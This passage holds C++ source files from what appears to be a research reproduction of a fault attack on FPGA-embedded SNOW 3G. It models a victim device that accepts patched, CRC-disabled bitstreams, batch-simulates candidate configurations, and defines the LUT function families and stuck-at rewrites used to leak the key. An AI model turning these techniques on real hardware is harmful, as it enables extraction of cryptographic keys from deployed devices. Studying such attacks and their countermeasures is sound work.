  snap->golden_tables = snap->tape->transpose_tables(snap->golden_luts);
  return snap;
}

std::optional<FrameDiff> diff_against_golden(const DeviceSnapshot& s, std::span<const u8> bytes) {
  if (s.frame_len == 0 || bytes.size() != s.golden.size()) return std::nullopt;
  const u64 h = outside_hash(bytes, s.fdri, s.frame_len);
  const u8* cf = bytes.data() + s.fdri;
  const u8* gf = s.golden.data() + s.fdri;

  const bool nocrc_match = s.has_nocrc_template && h == s.outside_hash_nocrc &&
                           outside_equal(bytes, s.golden_nocrc, s.fdri, s.frame_len);
  if (!nocrc_match) {
    // Pristine-golden fast path: only if the frame data is untouched too;
    // any modification under an armed CRC must go through the real parser
    // so the rejection (and its error string) is authentic.
    if (h == s.outside_hash_golden && outside_equal(bytes, s.golden, s.fdri, s.frame_len) &&
        std::memcmp(cf, gf, s.frame_len) == 0) {
      FrameDiff d;
      d.key = s.golden_key;
      return d;
    }
    return std::nullopt;
  }

  FrameDiff d;
  std::vector<char> seen(s.site_l.size(), 0);
  auto diff_byte = [&](size_t i) {
    if (cf[i] == gf[i]) return;
    const int o = s.owner[i];
    if (o == DeviceSnapshot::kOwnerKey) {
      d.key_changed = true;
    } else if (o >= 0 && !seen[static_cast<size_t>(o)]) {
      seen[static_cast<size_t>(o)] = 1;
      d.sites.emplace_back(static_cast<size_t>(o), 0);
    }
    // kOwnerInert bytes are padding the decode never reads; ignore them the
    // way the full re-decode does.
  };
  size_t i = 0;
  for (; i + 8 <= s.frame_len; i += 8) {
    if (std::memcmp(cf + i, gf + i, 8) == 0) continue;
    for (size_t j = i; j < i + 8; ++j) diff_byte(j);
  }
  for (; i < s.frame_len; ++i) diff_byte(i);

  for (auto& [site, init] : d.sites) {
    init = bitstream::read_lut_init(bytes, s.site_l[site], bitstream::Layout::chunk_stride(),
                                    s.site_order[site]);
  }
  if (d.key_changed) {
    for (size_t w = 0; w < 4; ++w) d.key[w] = load_be32(bytes.data() + s.key_l + 4 * w);
  } else {
    d.key = s.golden_key;
  }
  return d;
}

}  // namespace sbm::fpga
