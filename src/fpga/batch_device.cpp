#include "fpga/batch_device.h"

namespace sbm::fpga {

// The 64-lane scalar reference.  The 256/512-lane instantiations live in
// src/simd/kernels_*.cpp, which are compiled with the matching -m flags.
template class BatchDeviceT<u64>;

}  // namespace sbm::fpga
