#include "fpga/batch_device.h"

#include "bitstream/parser.h"
#include "bitstream/patcher.h"

namespace sbm::fpga {

BatchDevice::BatchDevice(const netlist::Snow3gDesign& design, const mapper::PlacedDesign& placed,
                         const bitstream::Layout& layout, const DeviceSnapshot& snapshot)
    : design_(design), placed_(placed), layout_(layout), snap_(snapshot), sim_(snapshot.tape) {
  sim_.set_tables(snap_.golden_tables);
  keys_.fill(snap_.golden_key);
}

bool BatchDevice::configure_lane(unsigned lane, std::span<const u8> bytes) {
  if (const auto diff = diff_against_golden(snap_, bytes)) {
    for (const auto& [site, init] : diff->sites) {
      const mapper::PhysicalLut& p = placed_.phys[site];
      if (p.o6_lut >= 0) {
        sim_.set_lut_table(static_cast<size_t>(p.o6_lut), lane,
                           placed_.function_from_init(site, false, init).bits());
      }
      if (p.o5_lut >= 0) {
        sim_.set_lut_table(static_cast<size_t>(p.o5_lut), lane,
                           placed_.function_from_init(site, true, init).bits());
      }
    }
    keys_[lane] = diff->key;
    ok_mask_ |= u64{1} << lane;
    return true;
  }

  // Full-parse fallback: identical acceptance criteria to Device::configure.
  const bitstream::ParseResult parsed = bitstream::parse_bitstream(bytes);
  if (!parsed.ok ||
      parsed.frame_data.size() < layout_.frame_count * bitstream::kFrameBytes) {
    ok_mask_ &= ~(u64{1} << lane);
    return false;
  }
  for (size_t site = 0; site < placed_.phys.size(); ++site) {
    const size_t l = layout_.site_byte_index(site) - layout_.fdri_byte_offset;
    const auto order = bitstream::chunk_order(placed_.slice_of(site));
    const u64 init = bitstream::read_lut_init(parsed.frame_data, l,
                                              bitstream::Layout::chunk_stride(), order);
    const mapper::PhysicalLut& p = placed_.phys[site];
    if (p.o6_lut >= 0) {
      const auto f = placed_.function_from_init(site, false, init);
      if (f != snap_.golden_luts.luts[static_cast<size_t>(p.o6_lut)].function) {
        sim_.set_lut_table(static_cast<size_t>(p.o6_lut), lane, f.bits());
      }
    }
    if (p.o5_lut >= 0) {
      const auto f = placed_.function_from_init(site, true, init);
      if (f != snap_.golden_luts.luts[static_cast<size_t>(p.o5_lut)].function) {
        sim_.set_lut_table(static_cast<size_t>(p.o5_lut), lane, f.bits());
      }
    }
  }
  const size_t key_off = layout_.key_byte_index() - layout_.fdri_byte_offset;
  for (size_t w = 0; w < 4; ++w) {
    keys_[lane][w] = load_be32(parsed.frame_data.data() + key_off + 4 * w);
  }
  ok_mask_ |= u64{1} << lane;
  return true;
}

std::vector<std::optional<std::vector<u32>>> BatchDevice::keystream(const snow3g::Iv& iv,
                                                                    size_t n, unsigned lanes) {
  // Same drive sequence as Device::keystream, lane-sliced.  Rejected lanes
  // run on whatever tables they hold (golden + any partial fallback writes);
  // their results are discarded below.
  sim_.reset();
  for (unsigned lane = 0; lane < lanes; ++lane) {
    for (size_t i = 0; i < 4; ++i) sim_.set_input_word_lane(design_.key[i], lane, keys_[lane][i]);
  }
  for (size_t i = 0; i < 4; ++i) sim_.set_input_word(design_.iv[i], iv[i]);
  auto drive = [&](bool load, bool init, bool gen) {
    sim_.set_input(design_.load, load);
    sim_.set_input(design_.init, init);
    sim_.set_input(design_.gen, gen);
  };
  drive(false, false, false);
  sim_.step();
  drive(true, false, false);
  sim_.step();
  for (int round = 0; round < 32; ++round) {
    drive(false, true, false);
    sim_.step();
  }
  drive(false, false, true);
  sim_.step();  // discarded clock

  std::vector<std::optional<std::vector<u32>>> out(lanes);
  for (unsigned lane = 0; lane < lanes; ++lane) {
    if ((ok_mask_ >> lane) & 1) {
      out[lane].emplace();
      out[lane]->reserve(n);
    }
  }
  for (size_t t = 0; t < n; ++t) {
    drive(false, false, true);
    sim_.settle();
    for (unsigned lane = 0; lane < lanes; ++lane) {
      if (out[lane]) out[lane]->push_back(sim_.read_word_lane(design_.z, lane));
    }
    sim_.clock();
  }
  return out;
}

}  // namespace sbm::fpga
