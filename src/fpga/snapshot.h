// Golden-configuration snapshot: everything the device model can precompute
// once per victim so that configuring a *patched* bitstream costs O(diff)
// instead of O(sites).
//
// The snapshot records the golden bytes, the same bytes with the CRC check
// disabled (the base every kDisable-mode probe is derived from), an owner
// map telling which LUT site (or the key region) each frame-data byte
// belongs to, the LUT functions decoded from the golden frame data, and the
// compiled bit-sliced evaluation tape shared by every BatchLutSimulator.
//
// Fast-path invariant (diff_against_golden): a candidate bitstream is
// diff-configurable iff it has the golden length and its bytes outside the
// frame-data region equal one of the two templates byte-for-byte —
//   * the CRC-disabled template: the packet stream parses exactly like the
//     golden one and accepts any frame-data contents, so re-decoding the
//     touched sites (and the key region) reproduces the full parse; or
//   * the pristine golden template with frame data untouched as well (the
//     candidate IS the golden bitstream).
// Everything else — truncation, header edits, recomputed CRCs, frame edits
// under an armed CRC — falls back to the full parser so rejection behavior
// and error strings stay identical to the pre-snapshot device.
#pragma once

#include <array>
#include <memory>
#include <optional>
#include <span>
#include <vector>

#include "bitstream/assembler.h"
#include "mapper/batch_lut_sim.h"
#include "mapper/packing.h"
#include "netlist/snow3g_design.h"
#include "snow3g/snow3g.h"

namespace sbm::fpga {

struct DeviceSnapshot {
  static constexpr int kOwnerInert = -1;  // padding/HCLK byte: decode ignores it
  static constexpr int kOwnerKey = -2;    // embedded-key byte

  std::vector<u8> golden;        // assembled bytes, CRC intact
  std::vector<u8> golden_nocrc;  // golden with bitstream::disable_crc applied
  bool has_nocrc_template = false;
  u64 outside_hash_golden = 0;  // hash of the bytes outside the frame region
  u64 outside_hash_nocrc = 0;
  size_t fdri = 0;       // first frame-data byte
  size_t frame_len = 0;  // frame-data bytes covered by the owner map

  std::vector<int> owner;                      // frame byte -> site / key / inert
  std::vector<size_t> site_l;                  // absolute byte index per site
  std::vector<std::array<u8, 4>> site_order;   // chunk order per site
  size_t key_l = 0;                            // absolute byte index of the key

  mapper::LutNetwork golden_luts;  // functions decoded from the golden frames
  snow3g::Key golden_key{};

  std::shared_ptr<const mapper::BatchLutTape> tape;
  std::vector<u64> golden_tables;  // transpose_tables(golden_luts)
};

/// One candidate's difference from the golden configuration.
struct FrameDiff {
  std::vector<std::pair<size_t, u64>> sites;  // (site index, candidate INIT)
  bool key_changed = false;
  snow3g::Key key{};  // candidate key (== golden_key when !key_changed)
};

std::shared_ptr<const DeviceSnapshot> build_snapshot(const netlist::Snow3gDesign& design,
                                                     const mapper::PlacedDesign& placed,
                                                     const bitstream::Layout& layout,
                                                     std::span<const u8> golden);

/// Returns the candidate's frame diff when the fast path applies (see the
/// invariant above), nullopt when the caller must run the full parser.
std::optional<FrameDiff> diff_against_golden(const DeviceSnapshot& snapshot,
                                             std::span<const u8> bytes);

}  // namespace sbm::fpga
