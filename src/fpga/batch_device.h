// 64-lane batch view of the victim FPGA: up to 64 independent candidate
// bitstreams configure the lanes of one bit-sliced simulator, then a single
// simulation run produces every lane's keystream.
//
// Each lane is configured exactly like a scalar Device — the same parse /
// CRC semantics, the same per-site INIT decode — but configuration starts
// from the golden snapshot and only re-decodes the sites a candidate's
// frame diff touches.  Candidates the fast path cannot prove safe go
// through the full parser for that lane alone; rejected lanes simply yield
// no keystream.  Lane keys may differ (a probe can patch the embedded key);
// the IV is broadcast, matching the oracle's fixed host IV.
#pragma once

#include <optional>
#include <span>
#include <vector>

#include "fpga/snapshot.h"

namespace sbm::fpga {

class BatchDevice {
 public:
  static constexpr unsigned kLanes = mapper::BatchLutSimulator::kLanes;

  BatchDevice(const netlist::Snow3gDesign& design, const mapper::PlacedDesign& placed,
              const bitstream::Layout& layout, const DeviceSnapshot& snapshot);

  /// Configures lane `lane` from a candidate bitstream.  Returns false when
  /// the device rejects it (the lane then yields nullopt from keystream()).
  bool configure_lane(unsigned lane, std::span<const u8> bytes);

  /// Runs the cipher once for all configured lanes; element i is lane i's
  /// keystream (nullopt for rejected lanes).  `lanes` is the number of
  /// lanes the caller configured (accepted or not).
  std::vector<std::optional<std::vector<u32>>> keystream(const snow3g::Iv& iv, size_t n,
                                                         unsigned lanes);

 private:
  const netlist::Snow3gDesign& design_;
  const mapper::PlacedDesign& placed_;
  bitstream::Layout layout_;
  const DeviceSnapshot& snap_;
  mapper::BatchLutSimulator sim_;
  std::array<snow3g::Key, kLanes> keys_{};
  u64 ok_mask_ = 0;
};

}  // namespace sbm::fpga
