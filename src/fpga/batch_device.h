// Lane-parallel batch view of the victim FPGA: up to kLanes independent
// candidate bitstreams configure the lanes of one bit-sliced simulator, then
// a single simulation run produces every lane's keystream.
//
// Each lane is configured exactly like a scalar Device — the same parse /
// CRC semantics, the same per-site INIT decode — but configuration starts
// from the golden snapshot and only re-decodes the sites a candidate's
// frame diff touches.  Candidates the fast path cannot prove safe go
// through the full parser for that lane alone; rejected lanes simply yield
// no keystream.  Lane keys may differ (a probe can patch the embedded key);
// the IV is broadcast, matching the oracle's fixed host IV.
//
// BatchDevice = BatchDeviceT<u64> is the 64-lane scalar reference; the
// 256/512-lane instantiations are confined to the src/simd/ kernel TUs and
// reached through simd::make_wide_device (see simd/wide.h).
#pragma once

#include <array>
#include <optional>
#include <span>
#include <vector>

#include "bitstream/parser.h"
#include "bitstream/patcher.h"
#include "fpga/snapshot.h"

namespace sbm::fpga {

template <class LV>
class BatchDeviceT {
 public:
  static constexpr unsigned kLanes = mapper::BatchLutSimulatorT<LV>::kLanes;

  BatchDeviceT(const netlist::Snow3gDesign& design, const mapper::PlacedDesign& placed,
               const bitstream::Layout& layout, const DeviceSnapshot& snapshot);

  /// Configures lane `lane` from a candidate bitstream.  Returns false when
  /// the device rejects it (the lane then yields nullopt from keystream()).
  bool configure_lane(unsigned lane, std::span<const u8> bytes);

  /// Runs the cipher once for all configured lanes; element i is lane i's
  /// keystream (nullopt for rejected lanes).  `lanes` is the number of
  /// lanes the caller configured (accepted or not).
  std::vector<std::optional<std::vector<u32>>> keystream(const snow3g::Iv& iv, size_t n,
                                                         unsigned lanes);

 private:
  const netlist::Snow3gDesign& design_;
  const mapper::PlacedDesign& placed_;
  bitstream::Layout layout_;
  const DeviceSnapshot& snap_;
  mapper::BatchLutSimulatorT<LV> sim_;
  std::array<snow3g::Key, kLanes> keys_{};
  LV ok_mask_{};
};

/// The 64-lane scalar reference instantiation (defined in batch_device.cpp).
using BatchDevice = BatchDeviceT<u64>;
extern template class BatchDeviceT<u64>;

template <class LV>
BatchDeviceT<LV>::BatchDeviceT(const netlist::Snow3gDesign& design,
                               const mapper::PlacedDesign& placed,
                               const bitstream::Layout& layout, const DeviceSnapshot& snapshot)
    : design_(design), placed_(placed), layout_(layout), snap_(snapshot), sim_(snapshot.tape) {
  sim_.set_tables(snap_.golden_tables);
  keys_.fill(snap_.golden_key);
}

template <class LV>
bool BatchDeviceT<LV>::configure_lane(unsigned lane, std::span<const u8> bytes) {
  if (const auto diff = diff_against_golden(snap_, bytes)) {
    for (const auto& [site, init] : diff->sites) {
      const mapper::PhysicalLut& p = placed_.phys[site];
      if (p.o6_lut >= 0) {
        sim_.set_lut_table(static_cast<size_t>(p.o6_lut), lane,
                           placed_.function_from_init(site, false, init).bits());
      }
      if (p.o5_lut >= 0) {
        sim_.set_lut_table(static_cast<size_t>(p.o5_lut), lane,
                           placed_.function_from_init(site, true, init).bits());
      }
    }
    keys_[lane] = diff->key;
    simd::set_lane(ok_mask_, lane, true);
    return true;
  }

  // Full-parse fallback: identical acceptance criteria to Device::configure.
  const bitstream::ParseResult parsed = bitstream::parse_bitstream(bytes);
  if (!parsed.ok ||
      parsed.frame_data.size() < layout_.frame_count * bitstream::kFrameBytes) {
    simd::set_lane(ok_mask_, lane, false);
    return false;
  }
  for (size_t site = 0; site < placed_.phys.size(); ++site) {
    const size_t l = layout_.site_byte_index(site) - layout_.fdri_byte_offset;
    const auto order = bitstream::chunk_order(placed_.slice_of(site));
    const u64 init = bitstream::read_lut_init(parsed.frame_data, l,
                                              bitstream::Layout::chunk_stride(), order);
    const mapper::PhysicalLut& p = placed_.phys[site];
    if (p.o6_lut >= 0) {
      const auto f = placed_.function_from_init(site, false, init);
      if (f != snap_.golden_luts.luts[static_cast<size_t>(p.o6_lut)].function) {
        sim_.set_lut_table(static_cast<size_t>(p.o6_lut), lane, f.bits());
      }
    }
    if (p.o5_lut >= 0) {
      const auto f = placed_.function_from_init(site, true, init);
      if (f != snap_.golden_luts.luts[static_cast<size_t>(p.o5_lut)].function) {
        sim_.set_lut_table(static_cast<size_t>(p.o5_lut), lane, f.bits());
      }
    }
  }
  const size_t key_off = layout_.key_byte_index() - layout_.fdri_byte_offset;
  for (size_t w = 0; w < 4; ++w) {
    keys_[lane][w] = load_be32(parsed.frame_data.data() + key_off + 4 * w);
  }
  simd::set_lane(ok_mask_, lane, true);
  return true;
}

template <class LV>
std::vector<std::optional<std::vector<u32>>> BatchDeviceT<LV>::keystream(const snow3g::Iv& iv,
                                                                         size_t n,
                                                                         unsigned lanes) {
  // Same drive sequence as Device::keystream, lane-sliced.  Rejected lanes
  // run on whatever tables they hold (golden + any partial fallback writes);
  // their results are discarded below.
  sim_.reset();
  for (unsigned lane = 0; lane < lanes; ++lane) {
    for (size_t i = 0; i < 4; ++i) sim_.set_input_word_lane(design_.key[i], lane, keys_[lane][i]);
  }
  for (size_t i = 0; i < 4; ++i) sim_.set_input_word(design_.iv[i], iv[i]);
  auto drive = [&](bool load, bool init, bool gen) {
    sim_.set_input(design_.load, load);
    sim_.set_input(design_.init, init);
    sim_.set_input(design_.gen, gen);
  };
  drive(false, false, false);
  sim_.step();
  drive(true, false, false);
  sim_.step();
  for (int round = 0; round < 32; ++round) {
    drive(false, true, false);
    sim_.step();
  }
  drive(false, false, true);
  sim_.step();  // discarded clock

  std::vector<std::optional<std::vector<u32>>> out(lanes);
  for (unsigned lane = 0; lane < lanes; ++lane) {
    if (simd::get_lane(ok_mask_, lane)) {
      out[lane].emplace();
      out[lane]->reserve(n);
    }
  }
  for (size_t t = 0; t < n; ++t) {
    drive(false, false, true);
    sim_.settle();
    for (unsigned lane = 0; lane < lanes; ++lane) {
      if (out[lane]) out[lane]->push_back(sim_.read_word_lane(design_.z, lane));
    }
    sim_.clock();
  }
  return out;
}

}  // namespace sbm::fpga
