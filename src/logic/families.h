// The candidate Boolean-function families of the attack (paper Tables II
// and VI, Sections VI-B and VI-D).
//
// The attacker guesses how the target XOR node v was absorbed into a 6-LUT:
// an XOR of 2..4 data inputs, AND-gated by c control inputs of unknown
// polarity, optionally XOR-combined with pass-through inputs (feedback-tree
// fragments).  Since FINDLUT already tries every input permutation, only
// c+1 polarity choices per shape are needed instead of 2^c (Section VI-B).
//
// Each candidate carries enough structure for the fault rewrites:
//   * xor_vars: the variables forming the hypothesized target XOR.  The
//     stuck-at-0 fault v = 0 is "cofactor all xor_vars to 0" (for a plain
//     XOR candidate this collapses to constant 0), generalizing Eq. (1).
//   * sel_var: for LFSR-load MUX candidates, the select input; the beta
//     fault zeroes the selected data branch (f_MUX2 -> f_MUX2^alpha).
#pragma once

#include <string>
#include <vector>

#include "logic/truth_table.h"

namespace sbm::logic {

/// Which datapath output the candidate targets (Table II column 1).
enum class TargetPath { kKeystream, kFeedback, kLoadMux };

struct Candidate {
  std::string name;      // "f2", ...
  std::string formula;   // human-readable, as printed in the paper
  TruthTable6 function;  // exact truth table
  TargetPath path = TargetPath::kKeystream;
  std::vector<u8> xor_vars;  // hypothesized target-XOR variables (0-based)
  int sel_var = -1;          // load-MUX select variable, -1 otherwise

  /// The v = 0 rewrite: all xor_vars cofactored to 0 (Eq. (1) generalized).
  TruthTable6 stuck_at0_rewrite() const;

  /// The beta rewrite for load-MUX candidates: the data branch selected at
  /// sel_var = `active` is forced to 0 (f_MUX2 -> f_MUX2^alpha when active
  /// is true).
  TruthTable6 load_zero_rewrite(bool active) const;
};

/// The 21 candidate functions of Table II, in paper order (index 0 is f1).
const std::vector<Candidate>& table2_family();

/// Candidate by paper name ("f1".."f21"); throws std::out_of_range if
/// unknown.
const Candidate& table2_candidate(const std::string& name);

/// The dual-output 2:1 MUX LUT used to load gamma(K, IV) into the LFSR
/// (Section VI-D.2): f_MUX2 = a6(a1 a2 + ~a1 a3) + ~a6(a1 a4 + ~a1 a5),
/// plus the single-output 3-variable MUX.
const std::vector<Candidate>& mux_family();

/// f_MUX2 and its beta rewrite, for reference and tests.
TruthTable6 f_mux2();
TruthTable6 f_mux2_zeroed();

/// The alpha-fault rewrites of Eq. (1): f8 -> a6 and f19 -> a3 a6.
TruthTable6 f8_alpha();
TruthTable6 f19_alpha();

/// The alpha2 rewrite of Section VI-D.1 for LUT1: removes the XOR pair
/// (pair_a, pair_b) from f2 = (a1+a2+a3) a4 a5 ~a6, keeping the remaining
/// XOR input (1-based variables, as in the paper).
TruthTable6 f2_alpha2(unsigned pair_a, unsigned pair_b);

/// Generates the generic family "XOR of `xor_arity` inputs, gated by every
/// polarity mix of `controls` AND-controls, XORed with `passthroughs` extra
/// single inputs".  xor_arity + controls + passthroughs <= 6.
std::vector<Candidate> gated_xor_family(unsigned xor_arity, unsigned controls,
                                        unsigned passthroughs, TargetPath path);

/// Load-MUX-with-feedback-fold shapes: mux(a1; a2; F) where F ranges over
/// small feedback fragments (plain XORs and init-gated XORs with
/// pass-throughs) of the remaining inputs.  These arise when the mapper
/// absorbs the top of the LFSR feedback tree into the s15 load MUX.
std::vector<Candidate> mux_fold_family();

/// The canonical 5-variable MUX half-table sel ? d1 : d0 (a1 = sel, a2 =
/// d1, a3 = d0) used by the half-table beta scan.
u32 mux3_half();

}  // namespace sbm::logic
