// 6-input truth tables and P-equivalence machinery.
//
// Convention: a k-LUT function is stored as a 64-bit table where minterm
// index bit j corresponds to input variable a_{j+1} of the paper (bit 0 =
// a1, ..., bit 5 = a6).  F[i] in the paper's Table I is bit i here.
//
// Two functions are P-equivalent if one arises from the other by permuting
// inputs [30]; FINDLUT (Algorithm 1) searches a whole P class because the
// router may feed a LUT's logical inputs through any physical pins.
#pragma once

#include <array>
#include <compare>
#include <cstdint>
#include <string>
#include <vector>

#include "common/bits.h"

namespace sbm::logic {

inline constexpr unsigned kLutInputs = 6;
inline constexpr unsigned kTableBits = 64;

/// Permutation of the 6 LUT inputs: output variable k reads original
/// variable perm[k].
using InputPermutation = std::array<u8, kLutInputs>;

/// Value-semantic 6-input truth table with a small combinator algebra used
/// to spell out candidate functions exactly as the paper writes them,
/// e.g.  (var(0) ^ var(1) ^ var(2)) & var(3) & var(4) & ~var(5).
class TruthTable6 {
 public:
  constexpr TruthTable6() = default;
  explicit constexpr TruthTable6(u64 bits) : bits_(bits) {}

  /// Projection onto input variable `v` (0-based: v = 0 is the paper's a1).
  static constexpr TruthTable6 var(unsigned v) {
    constexpr std::array<u64, 6> kVarMask = {
        0xaaaaaaaaaaaaaaaaull, 0xccccccccccccccccull, 0xf0f0f0f0f0f0f0f0ull,
        0xff00ff00ff00ff00ull, 0xffff0000ffff0000ull, 0xffffffff00000000ull};
    return TruthTable6(kVarMask[v]);
  }

  static constexpr TruthTable6 zero() { return TruthTable6(0); }
  static constexpr TruthTable6 one() { return TruthTable6(~u64{0}); }

  constexpr u64 bits() const { return bits_; }
  constexpr u32 eval(unsigned minterm) const { return bit_of(bits_, minterm); }

  friend constexpr TruthTable6 operator&(TruthTable6 a, TruthTable6 b) {
    return TruthTable6(a.bits_ & b.bits_);
  }
  friend constexpr TruthTable6 operator|(TruthTable6 a, TruthTable6 b) {
    return TruthTable6(a.bits_ | b.bits_);
  }
  friend constexpr TruthTable6 operator^(TruthTable6 a, TruthTable6 b) {
    return TruthTable6(a.bits_ ^ b.bits_);
  }
  constexpr TruthTable6 operator~() const { return TruthTable6(~bits_); }

  constexpr auto operator<=>(const TruthTable6&) const = default;

  /// g(x0..x5) = f(x_{perm[0]}, ..., x_{perm[5]}).
  TruthTable6 permuted(const InputPermutation& perm) const;

  /// True if the function's value depends on variable `v`.
  bool depends_on(unsigned v) const;

  /// Number of variables in the support.
  unsigned support_size() const;

  /// Cofactor with variable `v` fixed to `value` (result no longer depends
  /// on v).
  TruthTable6 cofactor(unsigned v, u32 value) const;

  /// The two 32-bit halves seen by a 7-series dual-output LUT: half 0 is the
  /// a6 = 0 sub-table (O5), half 1 the a6 = 1 sub-table.
  u32 half(unsigned which) const {
    return static_cast<u32>(bits_ >> (which ? 32 : 0));
  }

  /// Human-readable 16-hex-digit table, MSB first.
  std::string to_string() const;

 private:
  u64 bits_ = 0;
};

/// All 720 permutations of 6 elements, in lexicographic order.
const std::vector<InputPermutation>& all_permutations6();

/// The distinct truth tables in the P-equivalence class of `f` (≤ 720,
/// usually far fewer thanks to symmetries).
std::vector<TruthTable6> p_class(TruthTable6 f);

/// Canonical (minimal-bits) member of the P class.
TruthTable6 p_canonical(TruthTable6 f);

/// True if f and g are P-equivalent.
bool p_equivalent(TruthTable6 f, TruthTable6 g);

/// A 5-variable 2-input XOR test on a 32-bit half-table: true if the half
/// equals a_i ^ a_j (or its complement when `allow_complement`) for some
/// pair of the five variables a1..a5.  Used by the countermeasure evaluation
/// (Section VII-B): "all LUTs having the 2-input XOR in one half of their
/// truth table".
bool half_is_xor2(u32 half, bool allow_complement = false);

}  // namespace sbm::logic
