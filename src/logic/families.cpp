#include "logic/families.h"

#include <stdexcept>

namespace sbm::logic {
namespace {

using TT = TruthTable6;

TT a(unsigned i) { return TT::var(i - 1); }  // paper-style 1-based accessor

std::vector<Candidate> make_table2() {
  const TT x3 = a(1) ^ a(2) ^ a(3);  // 3-input XOR
  const TT x2 = a(1) ^ a(2);         // 2-input XOR
  std::vector<Candidate> f;
  auto add = [&f](std::string name, std::string formula, TT tt, TargetPath p,
                  std::vector<u8> xors) {
    Candidate c;
    c.name = std::move(name);
    c.formula = std::move(formula);
    c.function = tt;
    c.path = p;
    c.xor_vars = std::move(xors);
    f.push_back(std::move(c));
  };
  const std::vector<u8> x123 = {0, 1, 2};
  const std::vector<u8> x12 = {0, 1};
  add("f1", "(a1^a2^a3) a4 a5 a6", x3 & a(4) & a(5) & a(6), TargetPath::kKeystream, x123);
  add("f2", "(a1^a2^a3) a4 a5 ~a6", x3 & a(4) & a(5) & ~a(6), TargetPath::kKeystream, x123);
  add("f3", "(a1^a2^a3) a4 ~a5 ~a6", x3 & a(4) & ~a(5) & ~a(6), TargetPath::kKeystream, x123);
  add("f4", "(a1^a2^a3) ~a4 ~a5 ~a6", x3 & ~a(4) & ~a(5) & ~a(6), TargetPath::kKeystream, x123);
  add("f5", "(a1^a2^a3) ~a4 ~a5", x3 & ~a(4) & ~a(5), TargetPath::kKeystream, x123);
  add("f6", "(a1^a2^a3) ~a4 a5", x3 & ~a(4) & a(5), TargetPath::kKeystream, x123);
  add("f7", "(a1^a2^a3) a4 a5", x3 & a(4) & a(5), TargetPath::kKeystream, x123);
  add("f8", "(a1^a2) ~a3 a4 a5 ^ a6", (x2 & ~a(3) & a(4) & a(5)) ^ a(6), TargetPath::kFeedback,
      x12);
  add("f9", "(a1^a2) ~a3 ~a4 a5 ^ a6", (x2 & ~a(3) & ~a(4) & a(5)) ^ a(6),
      TargetPath::kFeedback, x12);
  add("f10", "(a1^a2) ~a3 ~a4 ~a5 ^ a6", (x2 & ~a(3) & ~a(4) & ~a(5)) ^ a(6),
      TargetPath::kFeedback, x12);
  add("f11", "(a1^a2) a3 a4 a5 ^ a6", (x2 & a(3) & a(4) & a(5)) ^ a(6), TargetPath::kFeedback,
      x12);
  add("f12", "(a1^a2) a4 a5 ^ a3 a6", (x2 & a(4) & a(5)) ^ (a(3) & a(6)),
      TargetPath::kFeedback, x12);
  add("f13", "(a1^a2) a4 a5 ^ ~a3 a6", (x2 & a(4) & a(5)) ^ (~a(3) & a(6)),
      TargetPath::kFeedback, x12);
  add("f14", "(a1^a2) a4 ~a5 ^ a3 a6", (x2 & a(4) & ~a(5)) ^ (a(3) & a(6)),
      TargetPath::kFeedback, x12);
  add("f15", "(a1^a2) a4 ~a5 ^ ~a3 a6", (x2 & a(4) & ~a(5)) ^ (~a(3) & a(6)),
      TargetPath::kFeedback, x12);
  add("f16", "(a1^a2) ~a4 ~a5 ^ a3 a6", (x2 & ~a(4) & ~a(5)) ^ (a(3) & a(6)),
      TargetPath::kFeedback, x12);
  add("f17", "(a1^a2) ~a4 ~a5 ^ ~a3 a6", (x2 & ~a(4) & ~a(5)) ^ (~a(3) & a(6)),
      TargetPath::kFeedback, x12);
  add("f18", "(a1^a2) a4 ^ a3 a6", (x2 & a(4)) ^ (a(3) & a(6)), TargetPath::kFeedback, x12);
  add("f19", "(a1^a2) ~a4 ^ a3 a6", (x2 & ~a(4)) ^ (a(3) & a(6)), TargetPath::kFeedback, x12);
  add("f20", "(a1^a2) a4 ^ ~a3 a6", (x2 & a(4)) ^ (~a(3) & a(6)), TargetPath::kFeedback, x12);
  add("f21", "(a1^a2) ~a4 ^ ~a3 a6", (x2 & ~a(4)) ^ (~a(3) & a(6)), TargetPath::kFeedback,
      x12);
  return f;
}

}  // namespace

TruthTable6 Candidate::stuck_at0_rewrite() const {
  TT t = function;
  for (u8 v : xor_vars) t = t.cofactor(v, 0);
  return t;
}

TruthTable6 Candidate::load_zero_rewrite(bool active) const {
  if (sel_var < 0) throw std::logic_error("not a load-MUX candidate");
  const TT sel = TT::var(static_cast<unsigned>(sel_var));
  return active ? (function & ~sel) : (function & sel);
}

const std::vector<Candidate>& table2_family() {
  static const std::vector<Candidate> family = make_table2();
  return family;
}

const Candidate& table2_candidate(const std::string& name) {
  for (const auto& c : table2_family()) {
    if (c.name == name) return c;
  }
  throw std::out_of_range("unknown Table II candidate: " + name);
}

TruthTable6 f_mux2() {
  return (a(6) & ((a(1) & a(2)) | (~a(1) & a(3)))) |
         (~a(6) & ((a(1) & a(4)) | (~a(1) & a(5))));
}

TruthTable6 f_mux2_zeroed() {
  return (a(6) & ~a(1) & a(3)) | (~a(6) & ~a(1) & a(5));
}

const std::vector<Candidate>& mux_family() {
  static const std::vector<Candidate> family = [] {
    std::vector<Candidate> f;
    Candidate dual;
    dual.name = "f_MUX2";
    dual.formula = "a6(a1 a2 + ~a1 a3) + ~a6(a1 a4 + ~a1 a5)";
    dual.function = f_mux2();
    dual.path = TargetPath::kLoadMux;
    dual.sel_var = 0;
    f.push_back(std::move(dual));

    Candidate single;
    single.name = "f_MUX1";
    single.formula = "a1 a2 + ~a1 a3";
    single.function = (a(1) & a(2)) | (~a(1) & a(3));
    single.path = TargetPath::kLoadMux;
    single.sel_var = 0;
    f.push_back(std::move(single));
    return f;
  }();
  return family;
}

TruthTable6 f8_alpha() { return a(6); }

TruthTable6 f19_alpha() { return a(3) & a(6); }

TruthTable6 f2_alpha2(unsigned pair_a, unsigned pair_b) {
  if (pair_a == pair_b || pair_a < 1 || pair_a > 3 || pair_b < 1 || pair_b > 3) {
    throw std::invalid_argument("pair must be two distinct variables among a1..a3");
  }
  // f2 = (a1^a2^a3) a4 a5 ~a6; drop the pair, keep the third XOR input.
  const unsigned third = 1 + 2 + 3 - pair_a - pair_b;
  return a(third) & a(4) & a(5) & ~a(6);
}

std::vector<Candidate> gated_xor_family(unsigned xor_arity, unsigned controls,
                                        unsigned passthroughs, TargetPath path) {
  if (xor_arity < 2 || xor_arity > 4) throw std::invalid_argument("xor_arity must be 2..4");
  if (xor_arity + controls + passthroughs > 6) {
    throw std::invalid_argument("too many inputs for a 6-LUT");
  }

  TT x = TT::zero();
  std::vector<u8> xors;
  for (unsigned i = 1; i <= xor_arity; ++i) {
    x = x ^ a(i);
